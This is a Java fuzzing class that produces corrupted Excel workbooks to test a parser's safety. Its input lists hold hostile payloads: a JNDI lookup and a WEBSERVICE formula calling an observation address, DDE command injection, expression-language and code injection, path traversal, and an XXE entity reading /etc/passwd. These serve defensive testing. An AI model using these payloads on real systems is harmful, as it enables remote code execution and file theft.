package org.yibao.workbook.safety;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;

/** Makes workbooks that are wrong in some way: in a cell, in the XML of a part, or in the archive. */
final class Mutations {
    private static final Pattern CELL = Pattern.compile("<c r=\"([A-Z]+[0-9]+)\"[^>]*?(/>|>.*?</c>)");
    private static final Pattern ELEMENT = Pattern.compile("<([A-Za-z:]+)[^>/]*(/>|>[^<]*</\\1>)");
    private static final Pattern ATTRIBUTE = Pattern.compile(" ([A-Za-z:]+)=\"([^\"]*)\"");
    private static final List<String> TABLES = List.of("sheet2", "sheet3", "sheet4", "sheet5");

    private static final List<String> NUMBERS = List.of(
            "0",
            "-1",
            "1e308",
            "-1e308",
            "1e309",
            "1E-400",
            "1E1000000000",
            "NaN",
            "INF",
            "-INF",
            "0x10",
            "１２３",
            " 330 ",
            "330",
            "0.005",
            "290.08999999999997",
            "2147483648",
            "9223372036854775808",
            "1,000",
            "1e",
            "+-1",
            "",
            ".",
            "43831");

    private static final List<String> TYPES = List.of("n", "s", "str", "b", "e", "inlineStr", "d", "x", "");

    private final Parts base;
    private final List<String> names;
    private final List<String> texts;
    private final List<String> formulas;

    /** @param address where something that reaches out would be seen */
    Mutations(Parts base, String address) {
        this.base = base;
        this.names = List.copyOf(base.contents().keySet());
        this.texts = List.of(
                "1); System.exit(0); //",
                "\"); System.setProperty(\"yibao.fuzz\", \"ran\"); //",
                "x\\\"); System.exit(0);",
                "x\\u0022); System.exit(0);",
                "#{T(java.lang.Runtime).getRuntime().exit(0)}",
                "${jndi:ldap://" + address + "/x}",
                "RuleTable evil",
                "RuleSet",
                "=1+1",
                "=cmd|'/c calc'!A0",
                "<script>alert(1)</script>",
                "&file;",
                "\u0000\u0001\u0008",
                "\ud800",
                "\udc00\ud800",
                "\ufffe\uffff",
                "𠮷野家",
                "\u202e330",
                "長".repeat(600),
                "x".repeat(40_000),
                "330元",
                "１２３",
                "  ",
                "222400",
                "JL-2020-15.1-1",
                "2020-02-30",
                "..\\..\\x",
                "file:///etc/passwd",
                "http://" + address + "/x");
        this.formulas = List.of(
                "1+1",
                "H14",
                "A1",
                "SUM(A1:J20)",
                "SUM(A:XFD)",
                "1/0",
                "NOW()",
                "INDIRECT(\"A1\")",
                "WEBSERVICE(\"http://" + address + "/x\")",
                "'http://" + address + "/[x.xlsx]S'!A1",
                "[1]S!A1",
                "cmd|'/c calc'!A0",
                "1); System.exit(0); //",
                "((((((((((",
                "(".repeat(900),
                "-".repeat(900) + "1",
                "{1,2}",
                "\"",
                "'",
                "A1048577",
                "XFE1",
                "#REF!",
                "ROUND(1,",
                "1 2",
                "1e400",
                "ROUND(1,1e300)",
                "2^99999",
                "代码表!A1",
                "没有!A1",
                "SUM(代码表!A1:J9)");
    }

    byte[] next(Random random) {
        Parts parts = base.copy();
        int kind = random.nextInt(100);
        if (kind < 30) {
            inCells(parts, random, this::value);
        } else if (kind < 33) {
            inCells(parts, random, this::formula);
        } else if (kind < 40) {
            inTexts(parts, random);
        } else if (kind < 55) {
            inAttributes(parts, random);
        } else if (kind < 67) {
            inElements(parts, random);
        } else if (kind < 77) {
            inBytes(parts, random);
        } else if (kind < 85) {
            return inParts(parts, random);
        } else {
            return inArchive(parts.pack(), random);
        }
        return parts.pack();
    }

    private static <T> T any(List<T> list, Random random) {
        return list.get(random.nextInt(list.size()));
    }

    /** Makes the XML of a cell. */
    private interface CellMaker {
        String make(String cell, Random random);
    }

    /** Data cells and header cells alike. */
    private void inCells(Parts parts, Random random, CellMaker maker) {
        String part = "xl/worksheets/" + any(TABLES, random) + ".xml";
        for (int times = random.nextInt(3); times >= 0; times--) {
            String text = parts.text(part);
            List<MatchResult> cells = CELL.matcher(text).results().toList();
            MatchResult cell = any(cells, random);
            parts.put(
                    part,
                    text.substring(0, cell.start()) + maker.make(cell.group(1), random) + text.substring(cell.end()));
        }
    }

    private String value(String cell, Random random) {
        String text = any(texts, random);
        return switch (random.nextInt(6)) {
            case 0, 1 ->
                "<c r=\"%s\" t=\"inlineStr\"><is><t xml:space=\"preserve\">%s</t></is></c>"
                        .formatted(cell, escaped(text));
            case 2 -> "<c r=\"%s\" t=\"str\"><v>%s</v></c>".formatted(cell, escaped(text));
            case 3 -> "<c r=\"%s\"><v>%s</v></c>".formatted(cell, any(NUMBERS, random));
            case 4 -> "<c r=\"%s\" t=\"%s\"><v>%s</v></c>".formatted(cell, any(TYPES, random), any(NUMBERS, random));
            default ->
                "<c r=\"%s\" t=\"s\"><v>%d</v></c>"
                        .formatted(cell, random.nextBoolean() ? random.nextInt() : random.nextInt(120));
        };
    }

    private String formula(String cell, Random random) {
        String kind = any(
                List.of(
                        "",
                        "",
                        "",
                        " t=\"shared\" si=\"0\" ref=\"A1:J20\"",
                        " t=\"shared\" si=\"0\"",
                        " t=\"array\" ref=\"A11:J20\""),
                random);
        return "<c r=\"%s\"><f%s>%s</f><v>290</v></c>".formatted(cell, kind, escaped(any(formulas, random)));
    }

    private static String escaped(String text) {
        return text.replace("&", "&amp;").replace("<", "&lt;");
    }

    private void inTexts(Parts parts, Random random) {
        parts.change("xl/sharedStrings.xml", text -> {
            List<MatchResult> found = ELEMENT.matcher(text).results().toList();
            MatchResult one = any(found, random);
            return text.substring(0, one.start()) + "<t>" + escaped(any(texts, random)) + "</t>"
                    + text.substring(one.end());
        });
    }

    private void inAttributes(Parts parts, Random random) {
        parts.change(any(names, random), text -> {
            List<MatchResult> found = ATTRIBUTE.matcher(text).results().toList();
            MatchResult one = any(found, random);
            String value = escaped(
                            switch (random.nextInt(4)) {
                                case 0 -> any(texts, random);
                                case 1 -> any(NUMBERS, random);
                                case 2 -> any(found, random).group(2);
                                default ->
                                    any(
                                            List.of(
                                                    "XFD1048576",
                                                    "A0",
                                                    "A-1",
                                                    "ZZZZ1",
                                                    "1048577",
                                                    "-5",
                                                    "rId3",
                                                    "../x"),
                                            random);
                            })
                    .replace("\"", "&quot;");
            String attribute = random.nextInt(5) == 0 ? "" : " " + one.group(1) + "=\"" + value + "\"";
            return text.substring(0, one.start()) + attribute + text.substring(one.end());
        });
    }

    private void inElements(Parts parts, Random random) {
        parts.change(any(names, random), text -> {
            List<MatchResult> found = ELEMENT.matcher(text).results().toList();
            if (found.isEmpty()) {
                return text + "<x/>";
            }
            MatchResult one = any(found, random);
            String before = text.substring(0, one.start());
            String after = text.substring(one.end());
            return switch (random.nextInt(5)) {
                case 0 -> before + after;
                case 1 -> before + one.group().repeat(1 + random.nextInt(20)) + after;
                case 2 -> before + any(found, random).group() + after;
                case 3 -> before + "<![CDATA[" + one.group() + "]]>" + after;
                default -> before + one.group().replace(one.group(1), "sheetData") + after;
            };
        });
    }

    private void inBytes(Parts parts, Random random) {
        String part = any(names, random);
        byte[] content = parts.contents().get(part).clone();
        for (int times = random.nextInt(8); times >= 0; times--) {
            content[random.nextInt(content.length)] ^= (byte) (1 << random.nextInt(8));
        }
        int cut = random.nextInt(4) == 0 ? random.nextInt(content.length) : content.length;
        parts.put(part, Arrays.copyOf(content, cut));
    }

    /** Parts left out, exchanged, in another order, or of other names. */
    private byte[] inParts(Parts parts, Random random) {
        String one = any(names, random);
        String other = any(names, random);
        switch (random.nextInt(6)) {
            case 0 -> parts.without(one);
            case 1 -> parts.put(one, parts.contents().get(other));
            case 2 -> parts.put(one, new byte[random.nextInt(3)]);
            case 3 -> {
                parts.put(
                        any(List.of("xl/vbaProject.bin", "../x", "xl/x.xml", "XL/WORKBOOK.XML", "x\\y"), random),
                        parts.contents().get(one));
            }
            case 4 -> parts.change(one, text -> "<!DOCTYPE x [<!ENTITY file SYSTEM \"file:///etc/passwd\">]>" + text);
            default -> {
                List<String> shuffled = new ArrayList<>(names);
                Collections.shuffle(shuffled, random);
                Map<String, byte[]> before = new LinkedHashMap<>(parts.contents());
                parts.contents().clear();
                shuffled.forEach(name -> parts.put(name, before.get(name)));
            }
        }
        return parts.pack();
    }

    private static byte[] inArchive(byte[] packed, Random random) {
        byte[] content = packed.clone();
        switch (random.nextInt(5)) {
            case 0 -> content = Arrays.copyOf(content, random.nextInt(content.length));
            case 1 -> inHeaders(content, "PK\u0001\u0002", 46, random);
            case 2 -> inHeaders(content, "PK\u0003\u0004", 30, random);
            case 3 -> inHeaders(content, "PK\u0005\u0006", 22, random);
            default -> {
                for (int times = random.nextInt(6); times >= 0; times--) {
                    content[random.nextInt(content.length)] ^= (byte) (1 << random.nextInt(8));
                }
            }
        }
        return content;
    }

    /** Changes bytes of headers of the archive: sizes, offsets, methods, flags, lengths. */
    private static void inHeaders(byte[] content, String signature, int length, Random random) {
        List<Integer> starts = new ArrayList<>();
        String bytes = new String(content, StandardCharsets.ISO_8859_1);
        for (int start = bytes.indexOf(signature); start >= 0; start = bytes.indexOf(signature, start + 1)) {
            starts.add(start);
        }
        for (int times = random.nextInt(3); times >= 0; times--) {
            int place = any(starts, random) + 4 + random.nextInt(length - 4);
            content[place] = (byte) (random.nextBoolean() ? random.nextInt() : -1);
        }
    }
}
